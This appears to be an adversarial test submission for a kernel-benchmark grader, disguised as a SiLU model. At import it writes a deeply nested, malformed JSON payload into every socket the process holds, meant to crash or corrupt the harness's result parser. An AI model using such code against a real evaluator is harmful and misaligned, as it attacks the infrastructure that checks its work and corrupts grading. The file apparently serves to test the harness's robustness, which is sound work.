"""E03: a frame of brackets, and one of numbers that are none.

Deep nesting overflows recursive parsers; huge integers and NaN get into arithmetic.

problem: silu_small
backend: torch
outcome: REJECTED, RUNTIME_ERROR
devices: cpu, cuda
request: {"run_performance": false}
"""

import os
import stat
import struct

import torch
import torch.nn as nn


def sockets():
    """Descriptors of this process that are sockets."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                yield int(name)
        except OSError:
            continue


BODY = b'{"ok": ' + b"[" * 100_000 + b"1e999, -0, NaN, " + b"9" * 10_000 + b"]" * 100_000 + b"}"
for each in sockets():
    os.set_blocking(each, True)
    data = struct.pack(">I", len(BODY)) + BODY
    while data:
        data = data[os.write(each, data) :]


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.nn.functional.silu(x)
